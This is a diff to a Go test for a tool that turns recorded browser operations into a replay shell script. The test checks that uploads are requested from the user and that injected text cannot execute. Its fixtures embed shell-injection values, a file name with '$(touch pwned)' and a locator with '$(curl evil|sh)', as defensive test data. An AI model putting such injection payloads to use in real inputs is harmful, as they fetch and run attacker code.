@@ -1,4 +1,4 @@
-package cli
+package historyscript
 
 import (
 	"encoding/json"
@@ -14,14 +14,13 @@ import (
 // were never kept), and nothing a page or a file name wrote can run in
 // the script: the shell expands $, ` and \ in the messages that ask.
 func TestHistoryScriptAsksForUploadsAndKeepsPagesOut(t *testing.T) {
-	c := &cmd{reg: ops.New()}
 	h := &ops.HistoryOut{Operations: []wire.Operation{
 		{ID: "op-1", Op: "upload", State: "executed", Locator: `role=button[name="CV"]`,
 			Input: json.RawMessage(`{"ref":"e1","contents":[{"name":"cv.pdf","size":4},{"name":"$(touch pwned)` + "`x`" + `.pdf","size":1}]}`)},
 		{ID: "op-2", Op: "fill", State: "executed", Locator: `role=textbox[name="$(curl evil|sh)"]`,
 			Input: json.RawMessage(`{"ref":"e2","text":"","secret":true}`)},
 	}}
-	script := c.historyScript(h)
+	script := Render(ops.New(), h)
 	for _, want := range []string{
 		`: "${LOUPE_UPLOAD_1:?set LOUPE_UPLOAD_1 to the path of the file uploaded as cv.pdf}"`,
 		`upload 'role=button[name="CV"]' "$LOUPE_UPLOAD_1" "$LOUPE_UPLOAD_2"`,
